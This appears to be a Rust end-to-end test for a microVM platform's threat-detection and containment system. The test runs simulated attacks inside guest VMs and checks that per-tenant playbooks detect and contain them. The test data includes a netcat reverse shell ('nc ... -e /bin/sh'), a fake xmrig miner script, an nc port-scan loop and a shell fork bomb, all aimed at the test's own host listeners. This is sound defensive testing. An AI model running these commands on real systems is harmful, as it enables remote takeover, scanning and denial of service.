//! End to end: attacks run inside real microVMs are detected from their telemetry and
//! contained by the playbook of their tenant, while benign VMs running over the same period
//! raise nothing above low severity.
//!
//! - miner (default tenant: alert, isolate, snapshot, pause): a CPU-burning script named
//!   `xmrig` connected to a pool-like port (3333) on a listener this test opens on the host;
//! - port scan (tenant `scan`: alert, rate-limit, isolate, cordon): a connect scan of the host's
//!   ports; the VM keeps running, limited and cut off (the host cannot reach it, it cannot
//!   reach the host), and its node is cordoned (the test uncordons it to go on);
//! - fork bomb (tenant `acme`: alert, snapshot, replace), bounded by the guest's pid limit (its
//!   own test, on its own cluster);
//! - reverse shell (default critical: alert, isolate, snapshot, replace): `nc -e /bin/sh` to a
//!   listener on the host.
//!
//! Benign: an idle VM, a VM in a steady busy loop, and a web server (busybox httpd) under load
//! from the host. Times to detect and to contain are printed.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::io::Read;
use std::net::TcpListener;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use firefleet_testkit::{cluster::Cluster, now_ms};

const BOOT: Duration = Duration::from_secs(120);
/// Detection plus containment, per scenario.
const DEADLINE: Duration = Duration::from_secs(120);

const PLAYBOOKS: &str = r#"
[tenant.scan]
high = ["alert", "rate-limit", "isolate", "cordon"]
rate_limit_mbit = 5

[tenant.acme]
high = ["alert", "snapshot", "replace"]

[tenant.q]
critical = ["alert", "quarantine-image"]
"#;

/// Runs a VM and returns its id once it runs.
fn run_vm(c: &Cluster, name: &str, tenant: Option<&str>, cmd: Option<&str>, memory: u32) -> String {
    let mut args = vec!["vm", "run", "--name", name];
    let mem = memory.to_string();
    args.extend(["--memory", mem.as_str()]);
    if let Some(t) = tenant {
        args.extend(["--tenant", t]);
    }
    if let Some(cmd) = cmd {
        args.extend(["--cmd", cmd]);
    }
    let v = c.json(&args);
    let id = v["id"].as_str().unwrap().to_owned();
    c.wait_phase(&id, "running", BOOT);
    id
}

fn exec(c: &Cluster, vm: &str, script: &str) -> String {
    let out = c.cli(&[
        "vm",
        "exec",
        vm,
        "--timeout",
        "60",
        "--",
        "sh",
        "-c",
        script,
    ]);
    assert!(
        out.status.success(),
        "exec {script:?} in {vm}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn threats(c: &Cluster) -> Vec<serde_json::Value> {
    c.json(&["threat", "ls"]).as_array().unwrap().clone()
}

/// Waits until a threat of `rule` on `vm` has every action final; returns it.
fn contained(c: &Cluster, vm: &str, rule: &str) -> serde_json::Value {
    let start = Instant::now();
    loop {
        let found = threats(c)
            .into_iter()
            .find(|t| t["vm"] == vm && t["finding"]["rule"] == rule);
        if let Some(t) = &found {
            let done = t["actions"]
                .as_array()
                .unwrap()
                .iter()
                .all(|a| ["done", "failed", "skipped"].contains(&a["state"].as_str().unwrap()));
            if done {
                return t.clone();
            }
        }
        assert!(
            start.elapsed() < DEADLINE,
            "no contained {rule} threat on {vm} within {DEADLINE:?}: {found:?}\nall: {:#?}\nvm: {}\nconsole: {}\nstats: {}\n{}",
            threats(c),
            String::from_utf8_lossy(&c.cli(&["vm", "stats", vm, "--output", "json"]).stdout),
            String::from_utf8_lossy(&c.cli(&["vm", "logs", vm]).stdout),
            String::from_utf8_lossy(
                &c.cli(&["vm", "exec", vm, "--", "sh", "-c", "ps; grep Tcp: /proc/net/snmp"])
                    .stdout
            ),
            c.logs()
        );
        std::thread::sleep(Duration::from_millis(300));
    }
}

fn actions(t: &serde_json::Value) -> Vec<(String, String)> {
    t["actions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| {
            (
                a["action"].as_str().unwrap().to_owned(),
                a["state"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

/// (time to detect, time to contain), ms from the attack's start.
fn times(t: &serde_json::Value, attack_ms: u64) -> (u64, u64) {
    let detected = t["detected_ms"].as_u64().unwrap();
    let contained = t["contained_ms"].as_u64().unwrap_or(detected);
    (
        detected.saturating_sub(attack_ms),
        contained.saturating_sub(attack_ms),
    )
}

/// A TCP listener on the agent's gateway address that accepts and holds connections.
fn hold_listener(addr: &str, stop: Arc<AtomicBool>) -> Arc<std::sync::atomic::AtomicU32> {
    let l = TcpListener::bind(addr).unwrap_or_else(|e| panic!("binding {addr}: {e}"));
    l.set_nonblocking(true).unwrap();
    let accepted = Arc::new(std::sync::atomic::AtomicU32::new(0));
    let n = accepted.clone();
    std::thread::spawn(move || {
        let mut held = Vec::new();
        while !stop.load(Ordering::Relaxed) {
            match l.accept() {
                Ok((s, _)) => {
                    n.fetch_add(1, Ordering::Relaxed);
                    held.push(s);
                }
                Err(_) => std::thread::sleep(Duration::from_millis(50)),
            }
        }
    });
    accepted
}

/// Whether the host can open a TCP connection to `addr`.
fn reaches(addr: &str) -> bool {
    std::net::TcpStream::connect_timeout(&addr.parse().unwrap(), Duration::from_secs(2)).is_ok()
}

/// A server with this test's playbooks and one agent (`vcpus` to offer) sampling every second.
/// The tempdir holding the playbook file comes back with it.
fn guard_cluster(vcpus: u32) -> (tempfile::TempDir, Cluster) {
    let dir = tempfile::tempdir().unwrap();
    let playbooks = dir.path().join("playbooks.toml");
    std::fs::write(&playbooks, PLAYBOOKS).unwrap();
    let mut c = Cluster::start_with(&["--playbooks", playbooks.to_str().unwrap()]);
    // A fork-bombed guest may go silent for a while on a loaded host: the heartbeat's own
    // replacement (e2e_healing) must not beat the guard's playbook to it here.
    c.agent_args = vec![
        "--telemetry-interval-ms".into(),
        "1000".into(),
        "--heartbeat-timeout-secs".into(),
        "180".into(),
    ];
    c.start_agent("n1", &[], vcpus);
    c.wait_nodes_ready(1);
    (dir, c)
}

#[test]
fn attacks_in_guests_are_detected_and_contained_and_benign_work_is_not() {
    let (dir, c) = guard_cluster(8);
    let gw = c.nets[0].1.gateway.clone();
    let stop = Arc::new(AtomicBool::new(false));

    // A broken playbook file is refused with its line and column.
    let bad = dir.path().join("bad.toml");
    std::fs::write(&bad, "[default]\nhigh = [\"alert\", \"nuke\"]\n").unwrap();
    let out = c.cli(&["guard", "playbooks", "test", bad.to_str().unwrap()]);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("bad.toml:2:"), "{err}");

    // Benign workloads, running through every scenario.
    let idle = run_vm(&c, "idle", None, None, 128);
    let busy = run_vm(&c, "busy", None, Some("while :; do :; done"), 128);
    let web = run_vm(
        &c,
        "web",
        None,
        Some("mkdir -p /www && echo hello > /www/index.html && httpd -f -p 8080 -h /www"),
        128,
    );
    let web_ip = c.vm(&web)["status"]["ip"].as_str().unwrap().to_owned();
    let load = {
        let stop = stop.clone();
        let url = format!("{web_ip}:8080");
        std::thread::spawn(move || {
            let mut ok = 0u32;
            while !stop.load(Ordering::Relaxed) {
                if let Ok(mut s) = std::net::TcpStream::connect_timeout(
                    &url.parse().unwrap(),
                    Duration::from_secs(2),
                ) {
                    use std::io::Write;
                    let _ = s.set_read_timeout(Some(Duration::from_secs(2)));
                    let _ = s.write_all(b"GET / HTTP/1.0\r\n\r\n");
                    let mut body = String::new();
                    if s.read_to_string(&mut body).is_ok() && body.contains("hello") {
                        ok += 1;
                    }
                }
                std::thread::sleep(Duration::from_millis(100));
            }
            ok
        })
    };
    let mut table = Vec::new();

    // 1. Miner: named like xmrig, burning CPU, connected to a pool port on the host.
    let pool = hold_listener(&format!("{gw}:3333"), stop.clone());
    let miner = run_vm(&c, "miner", None, None, 128);
    let attack = now_ms();
    exec(
        &c,
        &miner,
        &format!(
            "printf '#!/bin/sh\\nnc {gw} 3333 </dev/null >/dev/null &\\nwhile :; do :; done\\n' > /tmp/xmrig \
             && chmod +x /tmp/xmrig && (setsid /tmp/xmrig </dev/null >/dev/null 2>&1 &)"
        ),
    );
    let t = contained(&c, &miner, "miner-process");
    assert_eq!(t["finding"]["severity"], "high", "{t}");
    assert!(
        t["finding"]["evidence"]["processes"]
            .as_str()
            .unwrap()
            .contains("xmrig"),
        "{t}"
    );
    assert_eq!(
        actions(&t),
        [
            ("alert".into(), "done".into()),
            ("isolate".into(), "done".into()),
            ("snapshot".into(), "done".into()),
            ("pause".into(), "done".into())
        ],
        "{t}"
    );
    assert!(
        pool.load(Ordering::Relaxed) >= 1,
        "the miner reached the pool"
    );
    let v = c.vm(&miner);
    assert_eq!(v["status"]["phase"], "paused", "{v}");
    assert_eq!(v["status"]["network"]["isolated"], true, "{v}");
    let snap = t["snapshot"].as_str().unwrap().to_owned();
    let snaps = c.json(&["vm", "snapshots", &miner]);
    assert!(
        snaps.to_string().contains(&snap) && snaps.to_string().contains("ready"),
        "{snaps}"
    );
    table.push(("miner", t["finding"]["rule"].clone(), times(&t, attack)));

    // 2. Port scan of the host (tenant scan: isolate only): cut off, still running.
    let scanner = run_vm(
        &c,
        "scanner",
        Some("scan"),
        Some("mkdir -p /www && httpd -f -p 8080 -h /www"),
        128,
    );
    let scan_ip = c.vm(&scanner)["status"]["ip"].as_str().unwrap().to_owned();
    let scan_web = format!("{scan_ip}:8080");
    c.wait(Duration::from_secs(30), "the scanner's web server", || {
        reaches(&scan_web)
    });
    let attack = now_ms();
    exec(
        &c,
        &scanner,
        &format!(
            "(for p in $(seq 1 80); do nc -w 1 {gw} $p </dev/null >/dev/null 2>&1; done &) ; true"
        ),
    );
    let t = contained(&c, &scanner, "port-scan-failed-connects");
    assert_eq!(
        actions(&t),
        [
            ("alert".into(), "done".into()),
            ("rate-limit".into(), "done".into()),
            ("isolate".into(), "done".into()),
            ("cordon".into(), "done".into())
        ],
        "{t}"
    );
    let v = c.vm(&scanner);
    assert_eq!(v["status"]["phase"], "running", "{v}");
    assert_eq!(v["status"]["network"]["egress_mbit"], 5, "{v}");
    let node = c.json(&["node", "ls"])[0].clone();
    assert_eq!(node["cordoned"], true, "{node}");
    assert!(c.cli(&["node", "uncordon", "n1"]).status.success());
    assert!(
        !reaches(&scan_web),
        "the host still reaches the isolated VM"
    );
    let probe = hold_listener(&format!("{gw}:3390"), stop.clone());
    let out = exec(
        &c,
        &scanner,
        &format!("nc -w 2 {gw} 3390 </dev/null && echo reached || echo cut-off"),
    );
    assert!(out.contains("cut-off"), "{out}");
    assert_eq!(probe.load(Ordering::Relaxed), 0);
    table.push(("port scan", t["finding"]["rule"].clone(), times(&t, attack)));

    // 4. Reverse shell to a listener on the host (critical: isolate, snapshot, replace).
    let handler = hold_listener(&format!("{gw}:9001"), stop.clone());
    let shell = run_vm(&c, "shell", None, None, 128);
    let attack = now_ms();
    exec(
        &c,
        &shell,
        &format!("(setsid nc {gw} 9001 -e /bin/sh </dev/null >/dev/null 2>&1 &); true"),
    );
    let t = contained(&c, &shell, "reverse-shell-stdio");
    assert_eq!(t["finding"]["severity"], "critical", "{t}");
    assert_eq!(
        actions(&t),
        [
            ("alert".into(), "done".into()),
            ("isolate".into(), "done".into()),
            ("snapshot".into(), "done".into()),
            ("replace".into(), "done".into())
        ],
        "{t}"
    );
    assert!(handler.load(Ordering::Relaxed) >= 1);
    assert_eq!(t["replacement"], "shell-r1");
    c.wait_phase("shell-r1", "running", BOOT);
    table.push((
        "reverse shell",
        t["finding"]["rule"].clone(),
        times(&t, attack),
    ));

    // Acknowledge one; it stays contained, and `threat get` shows it all.
    let id = t["id"].as_str().unwrap();
    let acked = c.json(&["threat", "ack", id, "--note", "looked at it"]);
    assert_eq!(acked["ack"]["note"], "looked at it");
    let out = c.cli(&["threat", "get", id]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("reverse-shell-stdio") && text.contains("replace"),
        "{text}"
    );

    // Quarantine (tenant q): the image is refused for new VMs until an admin lifts it.
    let q = run_vm(&c, "q", Some("q"), None, 128);
    exec(
        &c,
        &q,
        &format!("(setsid nc {gw} 9001 -e /bin/sh </dev/null >/dev/null 2>&1 &); true"),
    );
    let t = contained(&c, &q, "reverse-shell-stdio");
    assert_eq!(
        actions(&t),
        [
            ("alert".into(), "done".into()),
            ("quarantine-image".into(), "done".into())
        ],
        "{t}"
    );
    let image = t["image"].as_str().unwrap().to_owned();
    let out = c.cli(&["vm", "run", "--name", "after", "--image", &image]);
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("quarantined"), "{err}");
    let images = c.json(&["threat", "images"]);
    assert_eq!(images[0]["image"], image.as_str(), "{images}");
    assert!(c.cli(&["threat", "release", &image]).status.success());
    let out = c.cli(&["vm", "run", "--name", "after", "--image", &image]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(c.cli(&["vm", "rm", "after"]).status.success());

    // Benign: nothing above low for the idle, busy and web VMs over the whole run.
    stop.store(true, Ordering::Relaxed);
    let served = load.join().unwrap();
    assert!(
        served > 10,
        "the web server answered only {served} requests"
    );
    for vm in [&idle, &busy, &web] {
        let bad: Vec<_> = threats(&c)
            .into_iter()
            .filter(|t| t["vm"] == vm.as_str() && t["finding"]["severity"] != "low")
            .collect();
        assert!(bad.is_empty(), "benign VM {vm} raised {bad:#?}");
    }
    // Findings and actions are in /metrics.
    let metrics = c.metrics();
    assert!(
        metrics
            .contains("firefleet_guard_findings_total{rule=\"miner-process\",severity=\"high\"} 1"),
        "{metrics}"
    );
    assert!(metrics.contains("firefleet_guard_actions_total{action=\"isolate\",state=\"done\"}"));
    assert!(metrics.contains("firefleet_telemetry_samples_total"));

    eprintln!("scenario        rule                        detect ms  contain ms");
    for (name, rule, (detect, contain)) in &table {
        eprintln!(
            "{name:<15} {:<27} {detect:>9}  {contain:>10}",
            rule.as_str().unwrap_or_default()
        );
    }
    eprintln!("web server under load: {served} requests answered");
}

/// The fork bomb on its own cluster: every shell forks two more and sleeps, without end but for
/// the guest's pid limit (the workloads' cgroup, 1,024 tasks, with a low CPU weight: the guest
/// agent outside it keeps answering, see `firefleet-vmm`'s channel test).
#[test]
fn a_fork_bomb_is_detected_and_replaced() {
    let (_dir, c) = guard_cluster(4);
    // Tenant acme: alert, snapshot, replace.
    let bomb = run_vm(&c, "bomb", Some("acme"), None, 256);
    let attack = now_ms();
    exec(
        &c,
        &bomb,
        "(setsid sh -c 'b() { b & b & sleep 600; }; b' </dev/null >/dev/null 2>&1 &); true",
    );
    let t = contained(&c, &bomb, "process-explosion");
    assert_eq!(
        actions(&t),
        [
            ("alert".into(), "done".into()),
            ("snapshot".into(), "done".into()),
            ("replace".into(), "done".into())
        ],
        "{t}"
    );
    let old = c.vm(&bomb);
    assert!(
        ["stopped", "failed"].contains(&old["status"]["phase"].as_str().unwrap()),
        "{old}"
    );
    let fresh = t["replacement"].as_str().unwrap().to_owned();
    assert_eq!(fresh, "bomb-r1");
    let fresh_vm = c
        .json(&["vm", "ls"])
        .as_array()
        .unwrap()
        .iter()
        .find(|v| v["spec"]["name"] == "bomb-r1")
        .cloned()
        .expect("the replacement exists");
    assert_eq!(fresh_vm["spec"]["tenant"], "acme");
    c.wait_phase(fresh_vm["id"].as_str().unwrap(), "running", BOOT);
    let (detect, contain) = times(&t, attack);
    eprintln!(
        "fork bomb: {} detect {detect} ms, contain {contain} ms",
        t["finding"]["rule"]
    );
}
